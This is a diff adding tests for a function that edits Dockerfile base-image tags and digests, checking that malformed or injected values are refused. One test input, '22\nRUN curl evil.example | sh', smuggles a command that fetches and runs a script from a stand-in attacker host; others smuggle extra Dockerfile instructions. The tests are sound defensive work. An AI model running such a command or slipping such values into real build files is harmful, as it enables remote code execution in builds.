@@ -250,6 +250,30 @@ describe('a Dockerfile stays as it is', () => {
   });
 });
 
+describe('what a registry calls a tag', () => {
+  it.each([
+    '22 AS evil',
+    '22\nRUN curl evil.example | sh',
+    '22$V',
+    '22"',
+    '22@sha256:0',
+    '22/evil',
+    '-22',
+    '',
+    '22\\',
+    '22#',
+    '\u{1f600}',
+    'a'.repeat(129),
+  ])('is no more than a tag in a FROM: %j', (tag) => {
+    for (const text of ['FROM node:20-alpine\n', 'ARG V=20-alpine\nFROM node:$V\n'])
+      for (const line of [1, 2]) expect(editBase(text, { line, tag, digest: b, pin: true }).kind).toBe('kept');
+  });
+
+  it.each(['', 'sha256:0', `${b} AS evil`, `${b}\nRUN x`])('and its digest is one: %j', (digest) => {
+    expect(editBase(`FROM node:20@${a}`, { line: 1, tag: '22', digest, pin: false }).kind).toBe('kept');
+  });
+});
+
 /** A Dockerfile by the image that stands in it, so that what the edit is to give is known without it. */
 type Template = (tag: string, digest: string) => string;
 
